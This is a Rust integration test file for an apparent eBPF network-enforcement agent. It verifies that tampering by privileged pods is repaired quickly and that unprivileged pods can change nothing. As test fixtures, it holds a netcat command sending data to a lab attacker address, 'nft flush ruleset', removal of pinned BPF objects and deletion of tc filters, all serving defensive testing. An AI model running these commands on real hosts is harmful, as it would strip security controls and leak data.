//! A privileged job changes what holds it in the kernel, and the agent puts it right within a second; without
//! privileges nothing can be changed.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use nix::sys::signal::Signal;
use serde_json::Value;
use weir_tests::agent::{Agent, AgentSpec};
use weir_tests::exec::{self, Output};
use weir_tests::lab::{Watch, addresses};
use weir_tests::metrics::Samples;
use weir_tests::node::{Container, Node, Options, Pod, PodSpec};
use weir_tests::profile::Profile;
use weir_tests::programs::Program;
use weir_tests::traces;
use weir_tests::vm;
use weir_tests::weir::Event;
use weir_tests::world::{FORBIDDEN_PORT, World, forbidden};

const FETCH: &str = "curl -sS -m 20 http://files.example.com/";
/// Where the node's BPF file system is in containers that have it.
const PINS: &str = "/pins";
/// What pods may reach without a name.
const NETWORK: &str = "203.0.113.128/25";
/// What the programs keep to themselves, whoever gets hold of it.
const KEPT: [&str; 2] = ["tag", "flows"];

/// How long a change may stand. Under emulation every step takes ten times as long.
fn bound() -> Duration {
    Duration::from_secs(if vm::guest_folder().is_some() { 15 } else { 1 })
}

/// What a job does, and what the agent calls that which it puts right then.
struct Attack {
    act: &'static str,
    what: &'static str,
    /// How many things it changes, at least.
    changes: u64,
}

const fn attack(act: &'static str, what: &'static str, changes: u64) -> Attack {
    Attack { act, what, changes }
}

/// The hooks at a pod's cgroup.
const HOOKS: u64 = 12;

/// One for each thing that the agent looks after.
const ATTACKS: [Attack; 12] = [
    attack("detach", "hook", HOOKS),
    attack("storage", "slot", 1),
    attack("wire-detach", "wire", 1),
    attack("device", "device", 2),
    attack("state", "state", 1),
    attack("cgroup", "cgroup", 1),
    attack("networks", "network", 2),
    attack("networks-wider", "network", 1),
    attack("networks-gone", "network", 1),
    attack("allow", "allow", 1),
    attack("allow-longer", "allow", 1),
    attack("table", "table", 5),
];

/// What opens the pod as long as nobody puts it right; in the order that it is done in.
const OPENINGS: [&[&str]; 5] =
    [&["state"], &["networks"], &["allow"], &["table"], &["wire-detach", "detach"]];

/// Those that put a program of their own in the place of ours.
const REPLACEMENTS: [Attack; 2] =
    [attack("replace", "hook", HOOKS), attack("wire-replace", "wire", 1)];

/// An enforced pod whose job tampers.
struct Tampered {
    world: World,
    agent: Agent,
    watch: Watch,
    pod: Pod,
    job: Container,
    /// Whether security modules keep a pod from what the agent would have to put right.
    is_guarded: bool,
}

impl Tampered {
    fn new(privileged: bool) -> Result<Self> {
        let world = World::new(&Options::default())?;
        let profile = Profile::deny_all()
            .domains_at(&["files.example.com"], &["80"])
            .cidrs_at(&[NETWORK], &["443"]);
        let agent = AgentSpec::default().namespace("ci", &profile.text()).start(&world.node)?;
        let watch = world.lab.watch(world.lab.attacker.host())?;
        let pod = world.pod(PodSpec { privileged, ..PodSpec::new("job") })?;
        let mut spec = world.shell("tamper", "sleep 3600").mount("/sys/fs/bpf", PINS);
        spec.privileged = privileged;
        let job = pod.start(spec)?;
        let is_guarded = agent.guards(&pod.spec().uid)?;
        Ok(Self { world, agent, watch, pod, job, is_guarded })
    }

    fn node(&self) -> &Node {
        &self.world.node
    }

    /// Has the job do something; where it is kept from that, which must be so, then a process of the node's.
    fn act(&self, act: &str) -> Result<Value> {
        let done = self.by_job(act)?;
        if !self.is_guarded {
            return Ok(done);
        }
        ensure!(is_refused(&done), "by the job: {done}");
        let mut tamper = self.node().command(Program::Tamper.path()?);
        tamper.args(self.words(act)?);
        answer(&exec::run(tamper, Duration::from_secs(10))?.expect_code(0)?)
    }

    fn by_job(&self, act: &str) -> Result<Value> {
        let words = self.words(act)?;
        let words = ["tamper"].into_iter().chain(words.iter().map(String::as_str));
        answer(&self.job.exec(&words.collect::<Vec<_>>())?.expect_code(0)?)
    }

    fn words(&self, act: &str) -> Result<[String; 4]> {
        let cgroup = fs::metadata(self.pod.cgroup_folder())?.ino().to_string();
        let (address, port) = (addresses::ATTACKER.v4.to_string(), FORBIDDEN_PORT.to_string());
        Ok([act.to_owned(), cgroup, address, port])
    }

    /// How often something was put right.
    fn repairs(&self, what: &str) -> Result<u64> {
        Samples::of(self.node())?.count(&format!("weir_repairs_total{{what=\"{what}\"}}"))
    }

    /// Waits until `count` more than `before` were put right: within the bound.
    fn repaired(&self, what: &str, before: u64, count: u64) -> Result<()> {
        let begun = Instant::now();
        loop {
            let now = self.repairs(what)?;
            if now >= before + count {
                return Ok(());
            }
            ensure!(begun.elapsed() < bound(), "{what}: {now} put right, {before} before");
        }
    }

    /// Nothing that is not allowed gets out, and what is allowed does.
    fn holds(&self) -> Result<()> {
        self.watch.take()?;
        let said = self.world.run(&self.pod, &format!("{}; {FETCH}", forbidden()))?;
        ensure!(said.contains("hello from"), "{said}");
        let seen = self.watch.take()?;
        ensure!(seen.is_empty(), "the attacker saw {seen:?}");
        Ok(())
    }

    /// Something that a job does, and what comes of it: it is put right, once, told of, and everything holds.
    fn undone(&self, attack: &Attack, act: impl FnOnce() -> Result<()>) -> Result<()> {
        let Attack { what, changes, .. } = *attack;
        let before = self.repairs(what)?;
        act()?;
        self.repaired(what, before, changes)?;
        self.holds()?;
        let uid = &self.pod.spec().uid;
        let told = self.agent.records(uid, "tamper")?;
        let told = told.iter().find(|event| event.text("/repaired") == what);
        let told = told.with_context(|| format!("no record of {what}"))?;
        ensure!(count(told) >= 1, "{told}");
        // What comes again is told of later.
        if before == 0 {
            let line = self.agent.wait_for(&format!("what=\"{what}\""))?;
            ensure!(line.contains("WARN") && line.contains(&self.pod.spec().name), "{line}");
        }
        Ok(())
    }

    fn by_bpf(&self, attack: &Attack) -> Result<()> {
        self.undone(attack, || {
            let done = self.act(attack.act)?;
            let changed = done.get("changed").and_then(Value::as_u64);
            ensure!(changed >= Some(attack.changes), "{done}");
            Ok(())
        })
        .with_context(|| format!("after {}", attack.act))
    }

    /// Runs a command on the node, in the network that the host's ends of veths are in.
    fn on_node(&self, script: &str) -> Result<Output> {
        let mut shell: Command = self.node().command("sh");
        shell.args(["-ec", script]);
        exec::run(shell, Duration::from_secs(10))?.expect_code(0)
    }

    /// Ends the pod and the agent; nothing is left, and the records tell of all that was put right.
    fn end(self) -> Result<()> {
        let kinds = ["hook", "slot", "wire", "device", "pin", "state", "cgroup"];
        let kinds = kinds.into_iter().chain(["network", "allow", "table", "capture"]);
        let counted: Vec<(&str, u64)> =
            kinds.map(|what| Ok((what, self.repairs(what)?))).collect::<Result<_>>()?;
        let uid = self.pod.spec().uid.clone();
        self.pod.remove()?;
        self.agent.wait_for("phase=\"gone\"")?;
        self.agent.records_come(&uid, "detach", 1)?;
        let records = self.agent.records(&uid, "tamper")?;
        for (what, repairs) in counted {
            let of_kind = records.iter().filter(|event| event.text("/repaired") == what);
            let told: u64 = of_kind.map(count).sum();
            ensure!(told == repairs, "{what}: {repairs} put right, {told} told of in {records:?}");
        }
        self.agent.stop()?;
        traces::none(&self.world.node)
    }
}

/// What the tampering program says that it did.
fn answer(said: &Output) -> Result<Value> {
    serde_json::from_str(&said.stdout).with_context(|| said.describe())
}

/// Whether it could do nothing.
fn is_refused(done: &Value) -> bool {
    done.get("changed") == Some(&Value::from(0)) && done.get("error") == Some(&Value::from("EPERM"))
}

/// Sends to the attacker.
fn leak() -> String {
    format!("echo leak | nc -w 1 {} {FORBIDDEN_PORT}; true", addresses::ATTACKER.v4)
}

fn count(record: &Event) -> u64 {
    record.number("/count")
}

/// Whether the second layer is a TCX link here, which has a number like any other link.
fn has_tcx(tampered: &Tampered) -> Result<bool> {
    let layout = traces::layout(tampered.node())?;
    let folder = tampered.node().path(traces::PINS).join(layout).join("pods");
    let pins = fs::read_dir(folder.join(tampered.pod.id()))?;
    let names: Vec<_> = pins.map(|pin| anyhow::Ok(pin?.file_name())).collect::<Result<_>>()?;
    Ok(names.iter().any(|name| name.to_string_lossy().starts_with("weir_wire-")))
}

#[test]
fn what_a_privileged_job_changes_is_put_right_within_a_second() -> Result<()> {
    let tampered = Tampered::new(true)?;
    tampered.holds()?;
    let has_tcx = has_tcx(&tampered)?;
    for attack in ATTACKS.iter().filter(|attack| has_tcx || attack.what != "wire") {
        tampered.by_bpf(attack)?;
    }
    tampered.undone(&attack("flush", "capture", 1), || {
        tampered.job.exec(&["nft", "flush", "ruleset"])?.expect_code(0).map(drop)
    })?;
    // The veth's link has a pin there, too.
    tampered.undone(&attack("unpin", "pin", HOOKS + u64::from(has_tcx)), || {
        let remove = format!("rm {PINS}/weir/*/pods/{}/*", tampered.pod.id());
        tampered.job.exec(&["sh", "-c", &remove])?.expect_code(0).map(drop)
    })?;
    tampered.end()
}

#[test]
fn what_a_job_opens_stays_open_only_while_the_agent_cannot_look() -> Result<()> {
    let tampered = Tampered::new(true)?;
    let has_tcx = has_tcx(&tampered)?;
    for acts in OPENINGS.iter().filter(|acts| has_tcx || !acts.contains(&"wire-detach")) {
        let attacks = ATTACKS.iter().filter(|attack| acts.contains(&attack.act));
        let before: Vec<_> = attacks
            .map(|attack| anyhow::Ok((attack, tampered.repairs(attack.what)?)))
            .collect::<Result<_>>()?;
        tampered.watch.take()?;
        tampered.agent.process().signal(Signal::SIGSTOP)?;
        let opened = acts.iter().try_for_each(|act| tampered.act(act).map(drop));
        let sent = tampered.world.run(&tampered.pod, &leak());
        tampered.agent.process().signal(Signal::SIGCONT)?;
        opened.and(sent.map(drop)).with_context(|| format!("after {acts:?}"))?;
        let seen = tampered.watch.take()?;
        ensure!(seen.tcp.packets > 0, "{acts:?} open nothing: the attacker saw {seen:?}");
        for (attack, before) in before {
            tampered.repaired(attack.what, before, attack.changes)?;
        }
        tampered.holds().with_context(|| format!("after {acts:?}"))?;
    }
    tampered.end()
}

#[test]
fn another_program_in_the_place_of_ours_is_put_right_within_a_second() -> Result<()> {
    let tampered = Tampered::new(true)?;
    let has_tcx = has_tcx(&tampered)?;
    for attack in REPLACEMENTS.iter().filter(|attack| has_tcx || attack.what != "wire") {
        tampered.by_bpf(attack)?;
    }
    tampered.end()
}

#[test]
fn a_filter_that_is_deleted_on_the_node_is_put_back_within_a_second() -> Result<()> {
    let tampered = Tampered::new(true)?;
    if has_tcx(&tampered)? {
        // The link is there, whatever is done to clsact; the kernel lets nobody detach it by its device.
        return tampered.end();
    }
    let all =
        "for link in $(ip -o link show type veth | sed 's/^[0-9]*: \\([^@:]*\\).*/\\1/'); do ";
    tampered.undone(&attack("delete", "wire", 1), || {
        let script = format!("{all} tc qdisc del dev $link clsact 2>/dev/null || true; done");
        tampered.on_node(&script).map(drop)
    })?;
    tampered.end()
}

#[test]
fn what_cannot_be_put_right_is_said_and_tried_again() -> Result<()> {
    let tampered = Tampered::new(true)?;
    let before = tampered.repairs("pin")?;
    let hooks = tampered.repairs("hook")?;
    // A hook that is attached again has another link, and nothing can be pinned where nothing can be written.
    tampered.on_node("mount -o remount,ro /sys/fs/bpf")?;
    tampered.act("detach")?;
    tampered.repaired("hook", hooks, HOOKS)?;
    let line = tampered.agent.wait_for("what=\"pin\"")?;
    ensure!(line.contains("trying again") && line.contains("ERROR"), "{line}");
    ensure!(tampered.repairs("pin")? == before, "something could be pinned");
    tampered.on_node("mount -o remount,rw /sys/fs/bpf")?;
    tampered.repaired("pin", before, HOOKS)?;
    tampered.holds()?;
    tampered.end()
}

#[test]
fn what_the_programs_alone_write_nobody_else_can() -> Result<()> {
    let tampered = Tampered::new(true)?;
    for act in KEPT {
        let done = tampered.act(act)?;
        ensure!(is_refused(&done), "{done}");
    }
    tampered.holds()?;
    tampered.end()
}

#[test]
fn a_loop_of_tampering_is_told_of_seldom_and_counted_whole() -> Result<()> {
    const ROUNDS: u64 = 8;
    // From one record of a kind to the next.
    const PERIOD: u64 = 10;
    let tampered = Tampered::new(true)?;
    let begun = Instant::now();
    for _ in 0..ROUNDS {
        let before = tampered.repairs("state")?;
        tampered.act("state")?;
        tampered.repaired("state", before, 1)?;
    }
    let records = tampered.agent.records(&tampered.pod.spec().uid, "tamper")?;
    let most = 3 + begun.elapsed().as_secs() / PERIOD;
    ensure!(!records.is_empty() && records.len() as u64 <= most, "{most}: {records:?}");
    tampered.holds()?;
    tampered.end()
}

#[test]
fn a_job_without_privileges_changes_nothing() -> Result<()> {
    let tampered = Tampered::new(false)?;
    let acts = ATTACKS.iter().chain(&REPLACEMENTS).map(|attack| attack.act).chain(KEPT);
    for act in acts {
        let done = tampered.by_job(act)?;
        let error = done["error"].as_str().unwrap_or_default();
        ensure!(done["changed"] == 0 && ["EPERM", "ENOENT"].contains(&error), "{done}");
    }
    let flush = tampered.job.exec(&["nft", "flush", "ruleset"])?;
    ensure!(flush.code != 0 && flush.stderr.contains("not permitted"), "{}", flush.describe());
    // Longer than from one look of the agent to the next.
    std::thread::sleep(bound());
    tampered.holds()?;
    let records = tampered.agent.records(&tampered.pod.spec().uid, "tamper")?;
    ensure!(records.is_empty(), "{records:?}");
    for attack in &ATTACKS {
        ensure!(tampered.repairs(attack.what)? == 0, "{} was put right", attack.what);
    }
    tampered.end()
}
